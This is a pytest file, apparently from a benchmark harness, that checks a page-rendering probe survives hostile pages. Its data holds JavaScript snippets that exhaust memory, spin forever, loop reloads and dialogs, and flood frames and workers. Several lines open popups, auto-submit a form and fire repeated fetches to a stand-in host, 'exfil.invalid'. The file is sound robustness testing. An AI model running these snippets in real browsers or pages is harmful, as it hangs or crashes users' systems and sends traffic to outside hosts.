"""Pages that want to break the probe: each ends in time with a name; the next one renders."""

import pytest

from benchmaker.record import ProbeOutcome
from tests.arenas.code.probe.conftest import Probing, was_held_up

RENDERED, HANG = ProbeOutcome.RENDERED, ProbeOutcome.HANG
ENDS_ANYHOW = {RENDERED, HANG, ProbeOutcome.CRASH, ProbeOutcome.MEMORY}
LATE = "setTimeout(()=>{{{}}},200)"
SPIN = "function f(){Promise.resolve().then(f)};f()"
BYTES = "const a=[];for(;;)a.push(new Uint8Array(1<<27).fill(1))"

QUICK = {
    "reloads late": (LATE.format("location.reload()"), {ProbeOutcome.RELOAD_LOOP}),
    "buffers without end": (BYTES, {ProbeOutcome.MEMORY}),
    "popups": ("for(let i=0;i<200;i++)open('http://exfil.invalid/'+i)", {RENDERED}),
    "a form that sends itself": (
        (
            "document.body.innerHTML='<form action=http://exfil.invalid/s method=post>';"
            "document.forms[0].submit()"
        ),
        {ProbeOutcome.NAVIGATED_AWAY},
    ),
}
SLOW = {
    "microtasks": (SPIN, {HANG}),
    "late microtasks": (LATE.format(SPIN), {HANG}),
    "reloads": ("location.reload()", {ProbeOutcome.RELOAD_LOOP}),
    "dialogs in a loop": ("for(;;)alert(1)", {HANG, RENDERED}),
    "many nodes": (
        (
            "for(let i=0;i<200000;i++){const d=document.createElement('div');d.textContent=i;"
            "document.body.append(d)}"
        ),
        {RENDERED, HANG},
    ),
    "a tall page": (
        "document.body.innerHTML+='<div style=height:50000000px>x</div>'",
        {RENDERED},
    ),
    "arrays without end": ("const a=[];for(;;)a.push(new Array(1e6).fill({}))", ENDS_ANYHOW),
    "a loop in a frame": (
        (
            "const f=document.createElement('iframe');f.srcdoc='<script>for(;;);<\\/script>';"
            "document.body.append(f)"
        ),
        ENDS_ANYHOW,
    ),
    "frames without end": (
        "setInterval(()=>document.body.append(document.createElement('iframe')),1)",
        ENDS_ANYHOW,
    ),
    "messages without end": (
        (
            "const c=new MessageChannel();c.port1.onmessage=()=>{document.title=Math.random();"
            "c.port2.postMessage(0)};c.port2.postMessage(0)"
        ),
        ENDS_ANYHOW,
    ),
    "workers": (
        "for(let i=0;i<4;i++)new Worker(URL.createObjectURL(new Blob(['for(;;);'])))",
        ENDS_ANYHOW,
    ),
    "history": ("setInterval(()=>history.pushState({},'','?'+Math.random()),1)", ENDS_ANYHOW),
    "requests": (
        "setInterval(()=>fetch('http://exfil.invalid/'+Math.random()).catch(()=>{}),1)",
        ENDS_ANYHOW,
    ),
}


def ends(page: str, outcomes: set[ProbeOutcome], probing, *, budget_s=None) -> None:
    """The page has no end of its own: there is a report only where the probe makes one.

    A page that may end as hanging burns all of its seconds, so that it has few of them. Without
    its time on a busy machine, a page has no result, and says so with its figures.
    """
    report = probing.report(f"<script>{page}</script>", budget_s=budget_s)
    assert report.outcome in outcomes or was_held_up(report)
    after = probing.report("<p>after it</p>")
    assert after.outcome is RENDERED or was_held_up(after)


@pytest.mark.parametrize("name", QUICK)
def test_a_hostile_page_ends_in_time_and_the_next_one_renders(name, probing):
    ends(*QUICK[name], probing)


@pytest.mark.long
@pytest.mark.parametrize("name", SLOW)
def test_every_hostile_page_ends_in_time_and_the_next_one_renders(name, probing):
    page, outcomes = SLOW[name]
    ends(page, outcomes, probing, budget_s=None if HANG in outcomes else 20)


def test_facts_from_before_a_late_loop_are_kept(probing):
    report = probing.report(f"<script>{LATE.format('for(;;);')}</script>", budget_s=20)
    assert report.timeout is True
    assert report.title == "page"
    assert report.text_len == len("Page\n\nSome text.")


@pytest.mark.long
def test_a_page_that_hangs_does_not_spoil_the_one_beside_it():
    probing = Probing(workers=2)
    try:
        hung, well = probing.together(["<script>for(;;);</script>", "<p>well</p>"])
    finally:
        probing.close()
    assert hung.outcome is HANG or was_held_up(hung)
    assert well.outcome is RENDERED or was_held_up(well)
